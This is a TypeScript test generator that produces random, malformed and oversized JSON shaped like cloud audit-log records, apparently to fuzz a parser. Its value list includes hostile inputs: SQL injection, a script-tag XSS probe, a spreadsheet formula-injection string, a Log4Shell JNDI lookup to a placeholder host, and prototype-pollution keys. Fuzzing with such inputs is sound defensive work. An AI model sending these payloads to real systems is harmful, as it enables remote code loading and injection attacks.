import type { Chance } from "../../local/samples/chance.ts";

/** Keys of records, keys that are dangerous to copy, and keys that are hard to store. */
const KEYS = [
  "records",
  "category",
  "properties",
  "operationName",
  "tenantId",
  "resourceId",
  "time",
  "id",
  "initiatedBy",
  "user",
  "app",
  "targetResources",
  "modifiedProperties",
  "displayName",
  "newValue",
  "oldValue",
  "additionalDetails",
  "key",
  "value",
  "resultReason",
  "activityDateTime",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "PartitionKey",
  "rowKey",
  "odata.metadata",
  "",
  "0",
  "\\u0000",
  "\\ud800",
  "字",
];

/** Values as JSON text: numbers out of range, texts that are hard to store, and texts with a meaning elsewhere. */
const SCALARS = [
  "null",
  "true",
  "0",
  "-0",
  "1e400",
  "-1e400",
  "1e-400",
  "9007199254740993",
  "123456789012345678901234567890",
  "0.1",
  '""',
  '" "',
  '"AuditLogs"',
  '"Audit"',
  '"RoleManagement"',
  '"Update role setting in PIM"',
  '"UPDATE ROLE SETTING IN PIM"',
  '"2026-03-04T09:12:41.7904180Z"',
  '"0000-00-00T99:99:99Z"',
  '"9999-12-31T23:59:59.9999999Z"',
  '"-271821-04-20T00:00:00Z"',
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"\\u0000\\u001b[31m\\r\\n"',
  '"\\u202e\\u200b\\u2066"',
  '"\\u2028\\u2029"',
  '"/\\\\#?%"',
  '"\'; drop table x --"',
  '"<script>alert(1)</script>"',
  '"=cmd|calc"',
  '"${jndi:ldap://192.0.2.1/a}"',
  '"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"',
  '"[{\\"key\\":\\"value\\"}]"',
  '"{\\"a\\":"',
  '"\\"quoted\\""',
  '"İıſK"',
  '"😀"',
];

/** JSON text of any shape; sometimes very deep, very long, or almost JSON. */
export function jsonText(draw: Chance, depth = 4): string {
  switch (draw.between(0, depth > 0 ? 9 : 5)) {
    case 6:
    case 7: {
      const members = many(draw, () => `"${draw.pick(KEYS)}":${jsonText(draw, depth - 1)}`);
      return `{${members.join(",")}}`;
    }
    case 8:
      return `[${many(draw, () => jsonText(draw, depth - 1)).join(",")}]`;
    case 9:
      return draw.between(0, 30) === 0 ? extreme(draw) : draw.pick(SCALARS);
    default:
      return draw.pick(SCALARS);
  }
}

function many(draw: Chance, make: () => string): string[] {
  return Array.from({ length: draw.between(0, 4) }, make);
}

/** Legal but disproportionate JSON. */
function extreme(draw: Chance): string {
  const size = draw.pick([100, 3_000, 12_000]);
  switch (draw.between(0, 5)) {
    case 0:
      return "[".repeat(size) + "]".repeat(size);
    case 1:
      return '{"a":'.repeat(size) + "1" + "}".repeat(size);
    case 2:
      return `"${"x".repeat(size * 10)}"`;
    case 3:
      return `"${"\\ud83d\\ude00".repeat(size)}"`;
    case 4:
      return `[${"0,".repeat(size)}0]`;
    default:
      return `{${Array.from({ length: 300 }, (_, index) => `"k${index}":${index}`).join(",")}}`;
  }
}
